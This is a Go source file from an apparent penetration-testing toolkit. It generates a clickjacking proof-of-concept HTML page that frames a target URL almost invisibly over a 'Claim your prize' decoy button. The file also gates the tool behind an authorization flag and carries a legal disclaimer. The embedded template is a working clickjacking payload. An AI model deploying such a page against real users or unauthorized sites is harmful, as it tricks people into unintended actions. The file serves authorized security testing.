package clickjacking

import (
	"bytes"
	"context"
	"html/template"

	"github.com/CodeMonkeyCybersecurity/pantest/internal/core"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/export"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/params"
	"github.com/CodeMonkeyCybersecurity/pantest/pkg/types"
)

const MakerID = "clickjacking-make"

var pocTemplate = template.Must(template.New("poc").Parse(`<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Clickjacking PoC - {{.URL}}</title>
<style>
body { font-family: sans-serif; margin: 0; }
#decoy { position: absolute; top: {{.Top}}px; left: {{.Left}}px; z-index: 1;
  padding: 12px 24px; background: #2d7ff9; color: #fff; border: 0; font-size: 16px; }
#target { position: absolute; top: 0; left: 0; width: 100%; height: 100%;
  border: 0; opacity: {{.Opacity}}; z-index: 2; }
#toggle { position: fixed; bottom: 8px; right: 8px; z-index: 3; }
</style>
</head>
<body>
<button id="decoy">Claim your prize</button>
<iframe id="target" src="{{.URL}}"></iframe>
<button id="toggle" onclick="var f=document.getElementById('target');f.style.opacity=f.style.opacity==='0.5'?'{{.Opacity}}':'0.5';">Toggle overlay</button>
<!-- If the target page renders inside the frame, it can be clickjacked. -->
</body>
</html>
`))

type pocPage struct {
	URL     string
	Opacity string
	Top     int
	Left    int
}

type MakeTool struct {
	core.Base
	env *core.Env
}

type makeParams struct {
	URL        string `param:"url"`
	Authorized bool   `param:"authorized"`
}

const pocDisclaimer = "Proof-of-concept pages may only be used against sites you are authorized to test. " +
	"Hosting them to trick real users is illegal."

func NewMake(env *core.Env) core.Tool {
	env = core.Ensure(env)
	return &MakeTool{
		Base: core.NewBase(types.ToolMetadata{
			Name:            "Clickjacking PoC Maker",
			Category:        types.CategoryClickjacking,
			Version:         "2.0.0",
			Description:     "Builds an HTML proof-of-concept page that overlays a decoy on a framed target",
			Usage:           "pantest run clickjacking-make --url https://target.example --authorized",
			Tags:            []string{"clickjacking", "poc", "web"},
			RiskLevel:       types.RiskCritical,
			LegalDisclaimer: pocDisclaimer,
		}, env.Log()),
		env: env,
	}
}

func (t *MakeTool) parse(p params.Params) (makeParams, error) {
	var mp makeParams
	if err := params.Require(p, "url"); err != nil {
		return mp, err
	}
	if err := params.Decode(p, &mp); err != nil {
		return mp, err
	}
	if err := params.MustBeURL("url", mp.URL); err != nil {
		return mp, err
	}
	if !mp.Authorized {
		return mp, types.NewError(types.KindValidation,
			"authorization required: clickjacking-make only runs with --authorized")
	}
	return mp, nil
}

func (t *MakeTool) Validate(p params.Params) bool {
	return t.Check(func() error { _, err := t.parse(p); return err })
}

func (t *MakeTool) Run(ctx context.Context, p params.Params) types.Record {
	t.Begin()
	mp, err := t.parse(p)
	if err != nil {
		return t.Fail(err)
	}

	var buf bytes.Buffer
	if err := pocTemplate.Execute(&buf, pocPage{URL: mp.URL, Opacity: "0.0001", Top: 220, Left: 160}); err != nil {
		return t.Fail(types.Wrap(types.KindTool, err, "failed to render PoC page"))
	}

	path := export.ArtifactPath(t.env.OutputDir(), MakerID, "clickjacking_poc", mp.URL, "html")
	if err := export.WriteArtifact(path, buf.Bytes()); err != nil {
		return t.Fail(types.Wrap(types.KindTool, err, "failed to save PoC page"))
	}

	t.Log().LogSecurityEvent(ctx, "clickjacking_poc_created", "HIGH", map[string]interface{}{
		"target": mp.URL,
		"file":   path,
	})
	t.AddResult(types.Record{
		"url":     mp.URL,
		"file":    path,
		"created": types.Timestamp(t.env.Clock()),
		"bytes":   buf.Len(),
	})
	t.AddSuccess("PoC page saved to " + path)
	t.AddRecommendation("Open the page locally; if the target renders inside the frame it is vulnerable")
	t.AddRecommendation("Delete the PoC once the finding is reported")
	return types.Record{"url": mp.URL, "file": path}
}
